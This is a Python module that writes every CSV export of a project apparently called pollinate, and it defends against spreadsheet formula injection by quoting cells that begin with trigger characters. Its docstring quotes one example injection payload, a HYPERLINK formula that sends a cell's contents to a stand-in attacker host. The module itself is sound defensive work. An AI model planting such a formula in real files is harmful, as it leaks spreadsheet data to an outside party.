"""The one CSV writer every pollinate export goes through.

Organisers open our CSV files in Excel, LibreOffice Calc or Google Sheets, and those
treat a cell starting with `=`, `+`, `-` or `@` as a formula; a roster name such as
`=HYPERLINK("https://evil.example/?"&A2)` would run on the organiser's machine. OWASP's
"CSV Injection" page lists those four plus tab (0x09) and carriage return (0x0D), and
OWASP ASVS 5.0 requirement 1.2.10 adds NUL (0x00); a cell starting with any of them is
neutralised by a leading single quote, which spreadsheets take as "text" and do not
display. RFC 4180 quoting (the `csv` module's job) is still needed on top: it
keeps commas and newlines inside a cell, but does not stop formula evaluation.

Encoding: UTF-8 throughout. Files an organiser opens in a spreadsheet get a byte order
mark, because Excel on Windows reads a BOM-less CSV in the legacy ANSI code page and
shows "JosÃ©" for "José". Files a machine imports (Zoom's breakout pre-assignment) get
none: importers commonly read the BOM as part of the first header (dotCMS issue 36508,
osTicket PR 5669, molgenis issue 6492), and Zoom documents no BOM handling.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Sequence
from pathlib import Path

# A cell starting with one of these is read as a formula (OWASP CSV Injection; ASVS).
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\0")

Cell = str | int | float | bool | None


def neutralise(value: str) -> str:
    """The text with a leading single quote when a spreadsheet would read it as a formula.

    >>> neutralise("=1+1"), neutralise("Amina")
    ("'=1+1", 'Amina')
    """
    if value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def would_neutralise(value: str) -> bool:
    """True when `neutralise` would change this text (callers warn where it matters)."""
    return value.startswith(FORMULA_TRIGGERS)


def cell_text(value: Cell) -> str:
    """How a value appears in our CSV files: booleans as true/false, None as empty.

    Numbers are written by us, never taken from a roster, so they are not neutralised;
    a negative number stays a number.
    """
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, int | float):
        return str(value)
    return neutralise(value)


def write_csv(
    path: Path, header: Sequence[str], rows: Iterable[Sequence[Cell]], *, bom: bool
) -> int:
    """Write an Excel-safe CSV (RFC 4180, CRLF line ends); return how many rows it holds.

    `bom=True` for files people open in a spreadsheet, `False` for files a machine
    imports. Header cells are ours and are written as given.
    """
    count = 0
    # newline="" hands line ends to the csv module, which writes CRLF as RFC 4180 asks.
    with path.open("w", encoding="utf-8-sig" if bom else "utf-8", newline="") as handle:
        writer = csv.writer(handle, lineterminator="\r\n")
        writer.writerow(header)
        for row in rows:
            writer.writerow([cell_text(value) for value in row])
            count += 1
    return count
